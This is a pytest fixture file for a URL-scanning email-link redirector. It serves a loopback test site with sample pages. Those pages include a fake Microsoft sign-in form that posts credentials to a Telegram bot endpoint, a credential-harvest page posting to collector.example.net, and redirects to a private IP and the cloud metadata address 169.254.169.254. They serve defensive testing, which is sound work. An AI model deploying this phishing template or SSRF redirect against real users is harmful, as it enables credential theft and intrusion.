"""Fixtures: a test website on loopback (it records every request), the redirector behind
uvicorn with Azurite-backed click log and rate limiter, and link making."""

from __future__ import annotations

import asyncio
import uuid
from collections.abc import Iterator
from dataclasses import dataclass, field

import httpx
import pytest
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import HTMLResponse, JSONResponse, RedirectResponse, Response
from starlette.routing import Route

from connectors.click_service import ClickService, ClickSettings, MemoryVerdictCache, own_visit_token
from connectors.fetcher import SafeFetcher, parse_networks, system_resolver
from connectors.storage.azure import AzureStores
from tap_core.click.analyze import ClickAnalyzer
from tap_core.click.fetch import FetchLimits
from tap_core.click.pages import Branding
from tap_core.policy import Policy
from tap_core.urls.intel import IntelIndex
from tap_core.urls.links import LinkCodec, LinkContext, LinkKeyring, message_ref
from tests.click.servers import redirector_app, serve

KEY = b"k" * 32
BROWSER = {
    "User-Agent": "Mozilla/5.0 (X11; Linux x86_64) Chrome/126.0 Safari/537.36",
    "Accept-Language": "en-GB,en;q=0.9",
    "Accept": "text/html",
}

PHISH = """<!doctype html><html><head><title>Sign in to your Microsoft account</title></head><body>
<h1>Microsoft</h1><form action="https://api.telegram.org/bot123:abc/sendMessage" method="post">
<label>Email</label><input type="email" name="u"><label>Password</label><input type="password" name="p">
<button>Sign in</button></form><script>var x = eval(atob('YWxlcnQoMSk='));</script></body></html>"""
# A password form sent to another site under a mailbox-full lure, on a page with other links:
# SUSPICIOUS for the page scorer (a foreign form action alone is ordinary on real sign-up pages),
# short of MALICIOUS.
SUSPICIOUS = """<!doctype html><html><head><title>Portal</title></head><body><h1>Welcome</h1>
<p>Your mailbox storage is full. Please log in to continue.</p>
<form action="https://collector.example.net/p" method="post">
<input type="password" name="p"></form><p><a href="/help">Help</a> <a href="/terms">Terms</a>
<a href="/privacy">Privacy</a> <a href="/contact">Contact</a></p></body></html>"""
BENIGN = """<!doctype html><html lang="en"><head><title>Cats</title></head><body><h1>Cats</h1>
<p>Cats are small carnivorous mammals. <a href="/a">More</a> <a href="/b">Even more</a></p></body></html>"""


async def test_resolver(host: str, port: int) -> list[str]:
    """Names under click-test.example resolve to loopback (like a real domain pointing there)."""
    if host.endswith(".click-test.example"):
        return ["127.0.0.1"]
    return await system_resolver(host, port)


@dataclass
class Site:
    port: int
    hits: list[str] = field(default_factory=list)
    #: The Accept-Language of each visit, in order.
    languages: list[str] = field(default_factory=list)

    def url(self, path: str) -> str:
        return f"http://localhost:{self.port}{path}"


def _site_app(hits: list[str], languages: list[str] | None = None) -> Starlette:
    async def page(request: Request) -> Response:
        path = request.url.path
        hits.append(path + ("?" + request.url.query if request.url.query else ""))
        if languages is not None:
            languages.append(request.headers.get("accept-language", ""))
        if path == "/headers":  # what the visitor sent, to check what our fetcher says it is
            return JSONResponse(dict(request.headers))
        if path.startswith("/phish"):
            return HTMLResponse(PHISH)
        if path.startswith("/suspicious"):
            return HTMLResponse(SUSPICIOUS)
        if path == "/to-private":
            return RedirectResponse("http://10.0.0.1/admin", status_code=302)
        if path == "/to-metadata":
            return RedirectResponse("http://169.254.169.254/latest/meta-data/", status_code=302)
        if path == "/slow":
            await asyncio.sleep(5)
            return HTMLResponse(BENIGN)
        if path == "/file.exe":
            return Response(
                b"MZ" + b"\0" * 58 + b"\x80\0\0\0" + b"\0" * 64 + b"PE\0\0" + b"\0" * 200,
                media_type="application/octet-stream",
                headers={"Content-Disposition": 'attachment; filename="invoice.exe"'},
            )
        return HTMLResponse(BENIGN)

    return Starlette(routes=[Route("/{p:path}", page)])


@pytest.fixture(scope="session", autouse=True)
def _warm() -> None:
    ClickAnalyzer.warm_up()


@pytest.fixture(scope="session")
def site() -> Iterator[Site]:
    hits: list[str] = []
    languages: list[str] = []
    with serve(_site_app(hits, languages)) as port:
        yield Site(port, hits, languages)




@dataclass
class Redirector:
    base: str
    codec: LinkCodec
    service: ClickService
    stores: AzureStores
    intel: IntelIndex
    policies: dict[str, Policy]
    cache: MemoryVerdictCache
    client: httpx.Client

    def link(
        self,
        url: str,
        *,
        tenant: str = "contoso",
        recipient: str = "ann@contoso.example",
        message: str = "",
        issued_at: int = 1_700_000_000,
    ) -> str:
        ref = message_ref(message or uuid.uuid4().hex)  # one message per link unless asked
        return self.codec.wrap(url, LinkContext(tenant, recipient, ref, issued_at))

    def get(self, link: str, headers: dict[str, str] | None = None, method: str = "GET") -> httpx.Response:
        return self.client.request(method, link, headers=headers if headers is not None else BROWSER)


#: The tests' tenants: the default policy, pages branded "Contoso".
DEFAULT_POLICY = Policy(branding=Branding(name="Contoso"))


def make_redirector(stores: AzureStores, settings: ClickSettings) -> Iterator[Redirector]:
    codec_holder: dict[str, LinkCodec] = {}
    intel = IntelIndex()
    policies: dict[str, Policy] = {}
    cache = MemoryVerdictCache(ttl_seconds=600)
    fetcher = SafeFetcher(
        allow_networks=parse_networks(settings.scan_allow_networks),
        limits=FetchLimits(timeout_seconds=settings.click_analysis_timeout_seconds),
        resolver=test_resolver,
    )
    holder: dict[str, ClickService] = {}

    class _Lazy:  # the codec needs the port, the app needs the service: bind after start
        async def handle(self, request):  # type: ignore[no-untyped-def]
            return await holder["s"].handle(request)

    app = redirector_app(_Lazy())  # type: ignore[arg-type]
    with serve(app) as port:
        base = f"http://127.0.0.1:{port}/api/r"
        codec_holder["c"] = LinkCodec(base, LinkKeyring({"k1": KEY}, "k1"))
        service = ClickService(
            codec_holder["c"],
            lambda t: policies.get(t, DEFAULT_POLICY),
            cache,
            lambda: intel,
            ClickAnalyzer(fetcher),
            stores.clicks,
            stores.rate_limiter,
            settings,
            own_visit_token=own_visit_token(codec_holder["c"]),
        )
        holder["s"] = service
        with httpx.Client(follow_redirects=False, timeout=30, trust_env=False) as client:
            yield Redirector(
                base, codec_holder["c"], service, stores, intel, policies, cache, client
            )


@pytest.fixture
def redirector(stores: AzureStores, monkeypatch: pytest.MonkeyPatch) -> Iterator[Redirector]:
    monkeypatch.setenv("TAP365_SCAN_ALLOW_NETWORKS", "127.0.0.0/8,::1/128")
    settings = ClickSettings(click_analysis_timeout_seconds=2.0, click_rate_limit=50)
    yield from make_redirector(stores, settings)


@pytest.fixture
def strict_redirector(stores: AzureStores) -> Iterator[Redirector]:
    """No network allowance: loopback is refused like any private address."""
    yield from make_redirector(
        stores, ClickSettings(scan_allow_networks="", click_analysis_timeout_seconds=2.0)
    )
